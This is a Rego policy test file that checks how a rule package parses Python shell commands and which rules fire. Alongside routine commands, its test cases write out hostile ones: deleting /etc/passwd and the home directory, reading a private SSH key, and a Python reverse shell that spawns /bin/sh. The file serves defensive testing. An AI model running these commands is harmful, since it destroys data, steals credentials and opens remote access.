package regent.program.python_test

import data.regent.fact_test as fact
import data.regent.program.python as room

# What stands in the shell text, its facts as far as the rules look at them, and
# the rules that fire.
cases := {
	"python -m pip list": [{"commands": [{"program": "python", "options": [["-m", "pip"]], "operands": ["list"]}]}, set()],
	"python3 -m pytest": [{"commands": [{"program": "python", "options": [["-m", "pytest"]]}]}, set()],
	"python -m unittest discover": [{"commands": [{"program": "python", "options": [["-m", "unittest"]], "operands": ["discover"]}]}, set()],
	"python -m venv .venv": [{"commands": [{"program": "python", "options": [["-m", "venv"]], "operands": [".venv"]}]}, set()],
	"python -m http.server": [{"commands": [{"program": "python", "options": [["-m", "http.server"]]}]}, {"python.module"}],
	"python x.py": [{"commands": [{"program": "python", "operands": ["x.py"]}]}, set()],
	"python3": [{"commands": [{"program": "python"}]}, set()],
	"python -c 'print(1)'": [{"commands": [{"program": "python", "options": [["-c", "print(1)"]]}]}, set()],
	"python --version": [{"commands": [{"program": "python", "options": [["--version", ""]], "help_only": true}]}, set()],
	"python -m compileall src": [{"commands": [{"program": "python", "options": [["-m", "compileall"]], "operands": ["src"]}]}, set()],
	"python -c \"import os; os.remove('/etc/passwd')\"": [{"commands": [{"program": "python", "options": [["-c", "import os; os.remove('/etc/passwd')"]]}]}, set()],
	"python -c \"import os; os.remove('build/x')\"": [{"commands": [{"program": "python", "options": [["-c", "import os; os.remove('build/x')"]]}]}, set()],
	"python -c \"open('/home/dev/.ssh/id_rsa').read()\"": [{"commands": [{"program": "python", "options": [["-c", "open('/home/dev/.ssh/id_rsa').read()"]]}]}, set()],
	"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'": [{"commands": [{"program": "python", "options": [["-c", "import socket,os,pty;s=socket.socket();s.connect((\"1.2.3.4\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")"]]}, {"program": "sh"}]}, set()],
	"python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"": [{"commands": [{"program": "python", "options": [["-c", "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"]]}]}, set()],
	"python3 - <<'EOF'\nimport shutil\nshutil.rmtree(\"/srv/data\")\nEOF": [{"commands": [{"program": "python", "operands": ["-"]}]}, set()],
	"python -m pip freeze": [{"commands": [{"program": "python", "options": [["-m", "pip"]], "operands": ["freeze"]}]}, set()],
}

test_rules[text] if {
	some text, [facts, fires] in cases
	{f.rule | some f in room.findings} == fires with input as fact.document(facts)
}
